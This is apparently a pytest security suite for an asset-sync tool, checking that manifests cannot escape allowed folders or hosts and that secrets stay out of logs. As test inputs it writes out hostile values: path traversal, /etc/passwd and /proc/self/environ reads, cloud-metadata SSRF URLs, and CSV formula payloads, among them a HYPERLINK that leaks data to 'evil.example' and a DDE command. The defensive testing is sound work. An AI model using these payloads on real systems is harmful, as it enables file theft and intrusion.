"""Trust (issue 18): a manifest cannot make a run read files or hosts it was not allowed to, one
bad row never takes its batch-mates down, and ``run`` answers configuration problems like
``validate`` (exit 2, one message, no traceback, before Prefect starts).

Every case goes through the real code paths: the CLI (``validate``, ``run --dry-run``, ``run``),
the real flow against the Kontent.ai simulator on a socket, and a canary HTTP server that counts
every request it receives (it must receive none)."""

from __future__ import annotations

import csv
import json
import os
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pandas as pd
import pytest
import yaml
from pydantic import SecretStr
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import PlainTextResponse
from starlette.routing import Route
from typer.testing import CliRunner

from assetferry.connectors.core.errors import ConfigError
from assetferry.connectors.core.files import AccessPolicy, FileInfo, FileStore
from assetferry.connectors.core.job import load_job, parse_job
from assetferry.connectors.core.ledger import Ledger
from assetferry.connectors.core.loader import Loader
from assetferry.connectors.pipeline import Pipeline, make_connector
from assetferry.flows.cli import app
from assetferry.sandbox.server import running
from tests import kit

SECRET_TEXT = "TOP-SECRET-CANARY-0xC0FFEE"


# -- a canary: an "internal admin" endpoint that must never be contacted ----------------------------
class Canary:
    def __init__(self) -> None:
        self.hits: list[str] = []
        self.lock = threading.Lock()

        async def any_route(request: Request) -> PlainTextResponse:
            with self.lock:
                self.hits.append(f"{request.method} {request.url.path}")
            return PlainTextResponse(SECRET_TEXT, headers={"ETag": '"canary"'})

        self.app = Starlette(routes=[Route("/{path:path}", any_route, methods=["GET", "HEAD", "POST"])])


@pytest.fixture(scope="module")
def canary() -> Iterator[tuple[Canary, str]]:
    c = Canary()
    with running(c.app) as root:
        yield c, root


def _hostile_folder(tmp_path: Path, canary_root: str) -> tuple[Path, list[dict[str, Any]], dict[str, str]]:
    """A job folder whose manifest names one good file and every way out of the folder.
    Returns (manifest folder, rows, expected reason fragment per refused id)."""
    folder = tmp_path / "job"
    files = folder / "files"
    files.mkdir(parents=True)
    (files / "ok.png").write_bytes(b"\x89PNG good bytes " * 20)
    secret = tmp_path / "outside-secret.txt"
    secret.write_text(SECRET_TEXT)
    (files / "link-out.png").symlink_to(secret)  # a symlink inside the folder pointing out of it
    (files / "avatar.png").symlink_to("/etc/passwd")  # disguised as an image
    (folder / "subdir-link").symlink_to(tmp_path)  # a linked folder: files/../subdir-link/outside...
    rows = [
        {"id": "ok", "title": "fine", "file": "files/ok.png"},
        {"id": "etc-passwd", "title": "x", "file": "/etc/passwd"},
        {"id": "passwd-as-avatar", "title": "x", "file": "/etc/passwd", "file_name": "avatar.png",
         "content_type": "image/png"},
        {"id": "file-url", "title": "x", "file": "file:///etc/hostname"},
        {"id": "dotdot", "title": "x", "file": "../../../../etc/hosts"},
        {"id": "symlink-out", "title": "x", "file": "files/link-out.png"},
        {"id": "symlink-etc", "title": "x", "file": "files/avatar.png"},
        {"id": "linked-dir", "title": "x", "file": "subdir-link/outside-secret.txt"},
        {"id": "other-bucket", "title": "x", "file": "s3://other-bucket/private/a.png"},
        {"id": "loopback", "title": "x", "file": f"{canary_root}/admin/secret.png"},
        {"id": "localhost-name", "title": "x", "file": canary_root.replace("127.0.0.1", "localhost") + "/admin"},
        {"id": "metadata", "title": "x", "file": "http://169.254.169.254/latest/meta-data/iam"},
        {"id": "proc", "title": "x", "file": "/proc/self/environ"},
    ]
    expected = {r["id"]: "not allowed" for r in rows if r["id"] != "ok"}
    return folder, rows, expected


def _job_file(folder: Path, root: str, rows: list[dict[str, Any]], **source: Any) -> Path:
    kit.write_csv(folder / "manifest.csv", rows)
    data = kit.job_dict("manifest.csv", root, Path("state"), settings={"requests_per_second": 100,
                                                                         "requests_per_minute": 6000})
    data["source"].update(source)
    return kit.write_job(folder / "job.yaml", data)


def _cli(*args: str) -> Any:
    result = CliRunner().invoke(app, list(args))
    assert "Traceback" not in result.output, result.output
    return result


# -- part 1: allowed roots -------------------------------------------------------------------------
@pytest.mark.parametrize("command", [["validate"], ["run", "--dry-run"]])
def test_validate_and_dry_run_reject_every_way_out_and_contact_nothing(
        kontent: str, canary: tuple[Canary, str], tmp_path: Path, command: list[str]) -> None:
    spy, root = canary
    spy.hits.clear()
    folder, rows, expected = _hostile_folder(tmp_path, root)
    job = _job_file(folder, kontent, rows)
    before = kit.stats(kontent)["requests"]

    result = _cli(*command, str(job), "--output", "json")

    assert result.exit_code == 1, result.output
    report = json.loads(result.output)
    reasons = {r["id"]: (r["field"], r["reason"]) for r in report["rejects"]}
    assert set(reasons) == set(expected), reasons
    for rid, fragment in expected.items():
        assert reasons[rid][0] == "file" and fragment in reasons[rid][1], (rid, reasons[rid])
    assert "source.allowed_hosts" in reasons["loopback"][1]
    assert "allowed_roots" in reasons["symlink-out"][1] and "allowed_roots" in reasons["dotdot"][1]
    assert sum(report["would"].values()) == 1  # only the good row
    assert spy.hits == []  # no HEAD, no GET: the internal host was never contacted
    stats = kit.stats(kontent)  # nothing sent to the vendor either (reading its environment aside)
    assert stats["requests"] - sum(stats["by_route"][r] for r in ("languages", "folders", "collections",
                                                                  "taxonomies")) == before
    assert SECRET_TEXT not in result.output


@pytest.mark.usefixtures("prefect_harness")
def test_a_run_uploads_only_the_allowed_file_and_reads_nothing_else(
        kontent: str, canary: tuple[Canary, str], tmp_path: Path) -> None:
    from assetferry.flows.sync import sync_assets

    spy, root = canary
    spy.hits.clear()
    folder, rows, expected = _hostile_folder(tmp_path, root)
    job = load_job(_job_file(folder, kontent, rows))

    summary = sync_assets(job)

    assert (summary["loaded"], summary["rejected"], summary["failed"]) == (1, len(expected), 0), summary
    assert kit.stats(kontent)["uploads"] == 1
    assert spy.hits == []
    [asset] = kit.list_assets(kontent)
    assert asset["external_id"] == "ok"
    with open(summary["rejects_file"], newline="") as f:
        rejected = {r["id"]: r for r in csv.DictReader(f)}
    assert set(rejected) == set(expected)
    assert all(r["field"] == "file" and "not allowed" in r["reason"] for r in rejected.values())
    assert SECRET_TEXT not in Path(summary["rejects_file"]).read_text()


def test_listed_hosts_and_roots_open_exactly_what_they_name(
        kontent: str, canary: tuple[Canary, str], tmp_path: Path) -> None:
    spy, root = canary
    spy.hits.clear()
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "s.png").write_bytes(b"shared bytes" * 10)
    folder = tmp_path / "job"
    (folder / "files").mkdir(parents=True)
    (folder / "files" / "ok.png").write_bytes(b"ok" * 10)
    port = root.rsplit(":", 1)[1]
    rows = [{"id": "ok", "title": "t", "file": "files/ok.png"},
            {"id": "shared", "title": "t", "file": str(shared / "s.png")},
            {"id": "listed-host", "title": "t", "file": f"{root}/public/a.png"},
            {"id": "other-port", "title": "t", "file": "http://127.0.0.1:1/a.png"},
            {"id": "ok-again", "title": "t", "file": str(folder / "files" / "ok.png")}]
    # relative roots resolve against the job file's folder, like the manifest path
    job = _job_file(folder, kontent, rows, allowed_roots=["../shared"], allowed_hosts=[f"127.0.0.1:{port}"])

    report = json.loads(_cli("validate", str(job), "--output", "json").output)

    reasons = {r["id"]: r["reason"] for r in report["rejects"]}
    # listing roots replaces the default: the manifest's folder is no longer allowed
    assert set(reasons) == {"ok", "ok-again", "other-port"}, reasons
    assert "127.0.0.1 is not in source.allowed_hosts" in reasons["other-port"]
    assert spy.hits == ["HEAD /public/a.png"]  # validate may touch what a run would, nothing else
    assert load_job(job).source.allowed_roots == [str(folder / "../shared")]


def test_host_names_resolving_to_internal_addresses_are_refused_unless_listed_exactly() -> None:
    policy = AccessPolicy.build("/m/list.csv", None, ["*.example.com", "10.9.0.0/16", "intranet.corp"])
    internal = {"evil.example.com": ["127.0.0.1"], "meta.example.com": ["169.254.169.254"],
                "lan.example.com": ["192.168.1.4"], "ok.example.com": ["93.184.216.34"],
                "listed-net.example.com": ["10.9.1.1"], "intranet.corp": ["10.1.1.1"]}

    def resolve(host: str) -> list[str]:
        return internal[host]

    verdicts = {h: policy.check_address(f"https://{h}/a.png", resolve) for h in internal}
    assert verdicts["ok.example.com"] is None
    assert verdicts["listed-net.example.com"] is None  # its network is listed
    assert verdicts["intranet.corp"] is None  # named exactly: the job's own choice
    for host in ("evil.example.com", "meta.example.com", "lan.example.com"):
        assert verdicts[host] and "internal address" in verdicts[host], (host, verdicts[host])
    assert policy.reason("https://user:pw@ok.example.com/a") is not None
    assert policy.reason("https://example.com.attacker.net/a") == "host example.com.attacker.net is not in source.allowed_hosts"


def test_object_store_roots_are_the_manifest_prefix() -> None:
    policy = AccessPolicy.build("s3://assets/manifests/*.csv")
    files = pd.Series(["s3://assets/manifests/img/a.png", "s3a://assets/manifests/b.png",
                       "s3://assets/manifests-2/c.png", "s3://assets/other/d.png", "s3://other-bucket/manifests/e.png",
                       "s3://assets/manifests/../secret/f.png", "simplecache::s3://assets/manifests/g.png",
                       "/etc/passwd", "gs://assets/manifests/h.png"])
    reasons = policy.check(files)
    assert reasons.isna().tolist() == [True, True, False, False, False, False, False, False, False]
    assert (reasons.dropna().str.len() > 0).all()


@pytest.mark.parametrize("state", ["/etc", "/etc/assetferry", "/usr/local/x", "/proc", "/sys/kernel", "/",
                                   "file:///etc/x", "../../../../../../../../etc"])
def test_the_state_folder_may_not_be_a_system_path(tmp_path: Path, state: str) -> None:
    data = kit.job_dict(str(tmp_path / "m.csv"), "http://127.0.0.1:9", Path(state))
    data["state"] = state
    job_file = kit.write_job(tmp_path / "job.yaml", data)
    with pytest.raises(ConfigError, match="system folder"):
        load_job(job_file)
    result = _cli("validate", str(job_file))
    assert result.exit_code == 2 and "system folder" in result.output, result.output
    assert not Path("/etc/assetferry").exists()


def test_the_pipeline_refuses_before_any_stat_and_the_file_store_at_stat_and_open(tmp_path: Path) -> None:
    """Two independent layers: the pipeline's vectorised check (no connector policy needed) and
    the FileStore's own (a link swapped to point out after the check is still refused at open)."""
    folder, rows, expected = _hostile_folder(tmp_path, "http://127.0.0.1:9")
    job = load_job(_job_file(folder, "http://127.0.0.1:9", rows))
    connector = make_connector(job, credentials={})
    connector.files.policy = None  # the pipeline alone
    pipeline = Pipeline(job, connector)
    ready, rejects = next(pipeline.prepared())
    assert ready["id"].tolist() == ["ok"]
    assert set(rejects["id"]) == set(expected) and rejects["reason"].str.startswith("not allowed").all()

    store = FileStore(policy=AccessPolicy.build(str(folder / "manifest.csv")))
    link = folder / "files" / "swap.png"
    link.symlink_to(folder / "files" / "ok.png")
    assert store.stat(str(link)).error is None
    opener = store.opener(str(link))
    link.unlink()
    link.symlink_to(tmp_path / "outside-secret.txt")  # swapped between stat and open
    with pytest.raises(PermissionError, match="not allowed"):
        opener()
    assert "not allowed" in (store.stat(str(link)).error or "")


# -- part 2: row isolation -------------------------------------------------------------------------
def _unix_socket(path: Path) -> socket.socket:
    """A directory entry that stats (size 0, not a directory) but cannot be opened (ENXIO)."""
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(path))
    return sock


@pytest.mark.usefixtures("prefect_harness")
def test_one_unopenable_file_or_bad_content_type_fails_only_its_own_row(kontent: str, tmp_path: Path) -> None:
    from assetferry.flows.sync import sync_assets

    folder = tmp_path / "job"
    good = kit.make_rows(folder / "files", 4)
    sock = _unix_socket(folder / "files" / "socket.png")
    try:
        rows = [good[0],
                {"id": "unopenable", "title": "t", "file": str(folder / "files" / "socket.png")},
                good[1],
                {**good[2], "id": "non-ascii-type", "content_type": "image/pngé"},
                good[3]]
        job = load_job(_job_file(folder, kontent, rows))
        job = job.model_copy(update={"batch_size": 10})
        # the good rows of the batch loaded before: they stay loaded (unchanged), never "failed"
        first_rows = [good[0], good[1]]
        kit.write_csv(folder / "manifest.csv", first_rows)
        assert sync_assets(job)["loaded"] == 2
        kit.write_csv(folder / "manifest.csv", rows)

        summary = sync_assets(job.model_copy(update={"source": job.source}))
    finally:
        sock.close()

    assert (summary["loaded"], summary["unchanged"], summary["rejected"], summary["failed"]) == (1, 2, 2, 0), summary
    with open(summary["rejects_file"], newline="") as f:
        rejected = {r["id"]: r for r in csv.DictReader(f)}
    assert rejected["unopenable"]["field"] == "file"
    assert "cannot open file: No such device or address" in rejected["unopenable"]["reason"]
    assert rejected["non-ascii-type"]["field"] == "content_type"
    assert "media type" in rejected["non-ascii-type"]["reason"]
    assert sorted(a["external_id"] for a in kit.list_assets(kontent)) == sorted(r["id"] for r in good
                                                                                if r["id"] != good[2]["id"])


class GrowingStore(FileStore):
    """The real file store, except that a file named ``grow-*`` gains bytes right after its stat:
    a file still being written (its body is longer than the Content-Length sent)."""

    def stat(self, url: str) -> FileInfo:
        info = super().stat(url)
        if Path(url).name.startswith("grow-"):
            with open(url, "ab") as f:
                f.write(b"more bytes written meanwhile" * 100)
        return info


def test_a_file_growing_while_sent_or_an_unbuildable_request_fails_only_its_own_row(
        kontent: str, tmp_path: Path) -> None:
    files = tmp_path / "files"
    rows = kit.make_rows(files, 3, prefix="ok")
    growing = []
    for i in range(3):  # three in a row: not "the vendor looks down" (our side failed)
        path = files / f"grow-{i}.png"
        path.write_bytes(b"first part " * 50)
        growing.append({"id": f"grow-{i}", "title": "t", "file": str(path)})
    ordered = [rows[0], *growing, rows[1], {**rows[2], "id": "bad-type", "content_type": "text/plainé"}]
    job = parse_job(kit.job_dict(str(tmp_path / "m.csv"), kontent, tmp_path / "state"), where="test")
    connector = make_connector(job, credentials={"api_key": SecretStr(kit.KEY)})
    frame, vendor_rejects = connector.prepare(_canonical(ordered, tmp_path))
    assert vendor_rejects.empty
    connector.files = GrowingStore(policy=connector.files.policy)
    ledger = Ledger(str(tmp_path / "state"))

    with ledger.writer("run-1", 0) as journal:
        result = Loader(connector).load(frame, {}, journal, "run-1")

    outcomes = {o.id: o for o in result.outcomes}
    assert result.counts["loaded"] == 2 and set(outcomes) == {"grow-0", "grow-1", "grow-2", "bad-type"}, outcomes
    for i in range(3):
        assert outcomes[f"grow-{i}"].status == "failed"
        assert "still being written" in outcomes[f"grow-{i}"].reason
    assert outcomes["bad-type"].status == "rejected" and "request cannot be built" in outcomes["bad-type"].reason
    assert sorted(a["external_id"] for a in kit.list_assets(kontent)) == sorted([rows[0]["id"], rows[1]["id"]])


def _canonical(rows: list[dict[str, Any]], tmp_path: Path) -> pd.DataFrame:
    from assetferry.connectors.core.records import DuplicateTracker, canonicalize
    from assetferry.connectors.sources.base import RecordChunk

    raw = pd.DataFrame(rows).fillna("")
    good, rejects = canonicalize(RecordChunk(raw.astype(str), str(tmp_path / "m.csv"), 1), DuplicateTracker())
    assert rejects.empty
    return good


# -- part 3: ``run`` answers like ``validate`` --------------------------------------------------------
ROOT = Path(__file__).resolve().parent.parent


def _cli_process(tmp_path: Path, *args: str, **env: str) -> Any:
    import subprocess
    import sys

    full = {**os.environ, "PREFECT_HOME": str(tmp_path / "prefect-home"), "KONTENT_API_KEY": kit.KEY, **env}
    full.pop("PREFECT_API_URL", None)
    for name, value in env.items():
        if value == "":
            full.pop(name)
    return subprocess.run([sys.executable, "-m", "assetferry.flows.cli", *args], env=full, cwd=ROOT, capture_output=True,
                          text=True, timeout=240, check=False)


def _config_cases(tmp_path: Path) -> dict[str, tuple[Path, dict[str, str], str]]:
    """name -> (job file, env changes, expected message fragment)."""
    folder = tmp_path / "cases"
    rows = kit.make_rows(folder / "files", 2)
    cases = {}
    job = _job_file(folder, "http://127.0.0.1:9", rows)
    cases["missing credential"] = (job, {"KONTENT_API_KEY": ""}, "environment variable KONTENT_API_KEY is not set")
    (folder / "broken.jsonl").write_text('{"id": "a", "file": "files/a-0000.txt"}\n{"id": "b", "file": \n')
    data = kit.job_dict("broken.jsonl", "http://127.0.0.1:9", Path("state"))
    data["source"]["on_bad_lines"] = "fail"  # by default a bad line only rejects its row
    cases["parse error"] = (kit.write_job(folder / "broken.yaml", data), {}, "line 2")
    data = kit.job_dict("nothing-*.csv", "http://127.0.0.1:9", Path("state"))
    cases["glob matches nothing"] = (kit.write_job(folder / "glob.yaml", data), {}, "no manifest matches")
    data = kit.job_dict("absent.csv", "http://127.0.0.1:9", Path("state"))
    cases["missing manifest"] = (kit.write_job(folder / "absent.yaml", data), {}, "manifest not found")
    (folder / "latin1.csv").write_bytes("id,title,file\nx,caf\xe9,files/a-0000.txt\n".encode("latin-1"))
    data = kit.job_dict("latin1.csv", "http://127.0.0.1:9", Path("state"))
    data["source"]["on_bad_lines"] = "fail"
    cases["not utf-8"] = (kit.write_job(folder / "latin1.yaml", data), {}, "cannot parse csv manifest")
    return cases


@pytest.mark.parametrize("case", ["missing credential", "parse error", "glob matches nothing", "missing manifest",
                                  "not utf-8", "bad window"])
@pytest.mark.parametrize("output", ["table", "json"])
def test_run_refuses_configuration_problems_before_prefect_starts(tmp_path: Path, case: str, output: str) -> None:
    if case == "bad window":
        job, env, fragment = _config_cases(tmp_path)["missing manifest"][0], {}, "since"
        extra = ["--since", "2026-05-01", "--until", "2026-01-01"]
    else:
        job, env, fragment = _config_cases(tmp_path)[case]
        extra = []

    done = _cli_process(tmp_path, "run", str(job), "--output", output, *extra, **env)

    assert done.returncode == 2, (done.stdout, done.stderr)
    assert "Traceback" not in done.stdout + done.stderr
    assert "Starting temporary server" not in done.stderr and "Flow run" not in done.stderr  # no Prefect
    if output == "json":
        answer = json.loads(done.stdout)
        assert answer["exit_code"] == 2 and fragment in answer["error"], answer
    else:
        assert fragment in " ".join(done.stderr.split()), done.stderr


def test_a_run_refused_with_401_exits_2_without_traceback_and_keeps_the_previous_rejects(
        kontent: str, tmp_path: Path) -> None:
    folder = tmp_path / "job"
    rows = kit.make_rows(folder / "files", 2)
    job = _job_file(folder, kontent, rows)
    previous = folder / "state" / "e2e" / f"kontent-{kit.ENV}" / "rejects.csv"
    previous.parent.mkdir(parents=True)
    previous.write_text("source,row,id,field,reason,record\nm.csv,1,X,file,earlier run,{}\n")

    done = _cli_process(tmp_path, "run", str(job), "--output", "json", KONTENT_API_KEY="refused-key-0000")

    assert done.returncode == 2, (done.stdout, done.stderr)
    assert "Traceback" not in done.stdout + done.stderr, done.stderr
    answer = json.loads(done.stdout)
    assert "401" in answer["error"] and "refused-key-0000" not in done.stdout + done.stderr
    assert "earlier run" in previous.read_text()  # a refused run loses nothing
    assert not previous.with_name("rejects.csv.partial").exists()
    assert kit.stats(kontent)["uploads"] == 0


def test_fetchable_urls_never_make_a_url_for_a_file_outside_the_roots(tmp_path: Path) -> None:
    from assetferry.connectors.core.errors import RejectedError
    from assetferry.connectors.core.fetchurls import FetchableURLs, FetchSettings

    folder = tmp_path / "m"
    folder.mkdir()
    (folder / "ok.png").write_bytes(b"x" * 10)
    (folder / "out.png").symlink_to("/etc/passwd")
    stage = tmp_path / "stage"
    urls = FetchableURLs(FetchSettings(staging=f"file://{stage}", public_base_url="http://files.example"),
                         policy=AccessPolicy.build(str(folder / "m.csv")))
    assert urls.url_for(str(folder / "ok.png")).startswith("http://files.example/")
    for bad in ["/etc/passwd", str(folder / "out.png"), "http://127.0.0.1:9/admin", "s3://other-bucket/a.png"]:
        with pytest.raises(RejectedError, match="not allowed"):
            urls.url_for(bad)
    assert sorted(p.name for p in stage.rglob("*") if p.is_file()) == ["ok.png"]  # nothing else staged


# -- part 4: output hygiene and a secrets scan ---------------------------------------------------------
@pytest.mark.usefixtures("prefect_harness")
def test_formula_cells_are_neutralised_in_the_rejects_file(kontent: str, tmp_path: Path) -> None:
    from assetferry.flows.sync import sync_assets

    folder = tmp_path / "job"
    rows = [{"id": '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "title": "t", "file": "files/none.png"},
            {"id": "+1-555", "title": "=cmd|' /C calc'!A0", "file": "files/none.png"},
            {"id": "@SUM(A1)", "title": "t", "file": "files/none.png"},
            {"id": "-2+3", "title": "t", "file": "files/none.png"},
            {"id": "plain", "title": "t", "file": "files/none.png"}]
    job = load_job(_job_file(folder, kontent, rows))

    summary = sync_assets(job)

    assert summary["rejected"] == 5
    with open(summary["rejects_file"], newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    ids = pd.read_csv(summary["rejects_file"], dtype=str)["id"].tolist()
    assert ids == ["'" + r["id"] for r in rows[:4]] + ["plain"]


def test_a_password_in_the_destination_url_is_refused_and_never_echoed(tmp_path: Path) -> None:
    folder = tmp_path / "job"
    rows = kit.make_rows(folder / "files", 1)
    job = _job_file(folder, "http://admin:Pa55-W0rd-Leak@127.0.0.1:9", rows)
    for args in (["validate", str(job)], ["run", str(job), "--dry-run"], ["run", str(job), "--output", "json"],
                 ["validate", str(job), "--output", "json"]):
        result = _cli(*args)
        assert result.exit_code == 2, result.output
        assert "destination.url" in result.output and "user:password@" in result.output
        assert "Pa55-W0rd-Leak" not in result.output
        if "json" in args:
            assert json.loads(result.output)["exit_code"] == 2


@pytest.mark.usefixtures("prefect_harness")
def test_secrets_scan_no_key_in_logs_state_plan_output_parameters_or_artifacts(
        kontent: str, tmp_path: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch) -> None:
    """A run (loads, rejects, a 5xx retried, a 401 on a second job) with the session's fake key
    (``ASSETFERRY_TEST_SECRET_*``, tests/conftest.py), a manifest naming a presigned URL and a URL
    with a password; then every place a secret could end up is scanned for every fake secret and
    the sandbox key: log lines (captured and stored by Prefect), exception messages, CLI output,
    the dry-run plan, the ledger and rejects files, flow-run parameters and artifacts."""
    import logging

    from prefect.client.orchestration import get_client

    from assetferry.flows.sync import sync_assets
    from assetferry.sandbox.kontent import EnvConfig, create_app

    caplog.set_level(logging.DEBUG)
    fakes = {k: v for k, v in os.environ.items() if k.startswith("ASSETFERRY_TEST_SECRET_")}
    assert len(fakes) >= 4 and all(v.startswith("FAKEKEY-") for v in fakes.values()), fakes
    key = fakes["ASSETFERRY_TEST_SECRET_KONTENT_KEY"]
    bad_key = "FAKE-SECRET-KEY-7f3a9c1e5b"
    secrets = [*fakes.values(), bad_key, kit.KEY]
    folder = tmp_path / "job"
    rows = kit.make_rows(folder / "files", 4) + [
        {"id": "refused", "title": "t", "file": "/etc/passwd"},
        {"id": "presigned", "title": "t", "file": "https://bucket.s3.amazonaws.com/a.png?X-Amz-Credential=AKIA%2F1"
                                                  f"&X-Amz-Signature={fakes['ASSETFERRY_TEST_SECRET_URL_SIGNATURE']}"},
        {"id": "password", "title": "t",
         "file": f"https://reader:{fakes['ASSETFERRY_TEST_SECRET_URL_PASSWORD']}@files.example.com/a.png"}]
    app_ = create_app(environments={kit.ENV: EnvConfig(key, ["default"])}, per_second=1000, per_minute=60000)
    with running(app_) as root:
        job_file = _job_file(folder, root, rows)
        data = yaml.safe_load(job_file.read_text())
        data["destination"]["credentials"]["api_key"] = "env:ASSETFERRY_TEST_SECRET_KONTENT_KEY"
        job_file.write_text(yaml.safe_dump(data))
        job = load_job(job_file)
        httpx.post(f"{root}/_sandbox/faults", json={"status": 503, "count": 1, "when": "before",
                                                     "route": "upsert"}).raise_for_status()
        summary = sync_assets(job)
        assert (summary["loaded"], summary["rejected"]) == (4, 3), summary
        monkeypatch.setenv("ASSETFERRY_TEST_SECRET_KONTENT_KEY", bad_key)
        with pytest.raises(ConfigError) as refused:
            sync_assets(job.model_copy(update={"name": "refused-run"}))
        monkeypatch.setenv("ASSETFERRY_TEST_SECRET_KONTENT_KEY", key)
        outputs = [str(refused.value), caplog.text]
        plan = tmp_path / "plan.jsonl"
        for args in (["validate", str(job_file)], ["run", str(job_file), "--dry-run", "--plan", str(plan)],
                     ["run", str(job_file), "--dry-run", "--output", "json"], ["status", str(job_file)],
                     ["validate", str(job_file), "--output", "json"], ["run", str(job_file), "--output", "json"]):
            outputs.append(_cli(*args).output)
    files = [p for p in (folder / "state").rglob("*") if p.is_file()] + [plan]
    with get_client(sync_client=True) as client:
        runs = client.read_flow_runs()
        outputs += [json.dumps(r.parameters, default=str) + str(r.state and r.state.message) for r in runs]
        outputs += [json.dumps(a.data, default=str) + str(a.description) for a in client.read_artifacts()]
        logs = client.read_logs()
        outputs += [log.message for log in logs]
    assert len(files) >= 4 and len(runs) >= 2 and logs
    assert any(p.name == "rejects.csv" for p in files) and any(p.name == "plan.jsonl" for p in files)
    assert "X-Amz-Signature=***" in next(p for p in files if p.name == "rejects.csv").read_text()
    for secret in secrets:
        assert not [i for i, text in enumerate(outputs) if secret in text], secret
        assert not [p for p in files if secret.encode() in p.read_bytes()], secret


def test_a_redirect_from_an_allowed_host_to_an_unlisted_one_is_not_followed(tmp_path: Path) -> None:
    inner = Canary()  # the internal host the redirect points at
    hits: list[str] = []

    with running(inner.app) as internal:
        async def redirect(request: Request) -> PlainTextResponse:
            hits.append(request.url.path)
            target = f"{internal}/admin" if request.url.path.endswith("evil.png") else "/files/fine.png"
            if request.url.path.endswith("fine.png"):
                return PlainTextResponse("fine bytes", headers={"ETag": '"f"'})
            return PlainTextResponse("", status_code=302, headers={"Location": target})

        outer = Starlette(routes=[Route("/{path:path}", redirect, methods=["GET", "HEAD"])])
        with running(outer) as allowed:
            port = allowed.rsplit(":", 1)[1]
            store = FileStore(policy=AccessPolicy.build(str(tmp_path / "m.csv"), None, [f"127.0.0.1:{port}"]))
            refused = store.stat(f"{allowed}/files/evil.png")
            followed = store.stat(f"{allowed}/files/moved.png")  # a redirect inside the allowed host

    assert refused.error and "redirected to" in refused.error and "not in source.allowed_hosts" in refused.error
    assert followed.error is None and followed.size == len("fine bytes")
    assert inner.hits == []
    assert hits and all(h.startswith("/files/") for h in hits)
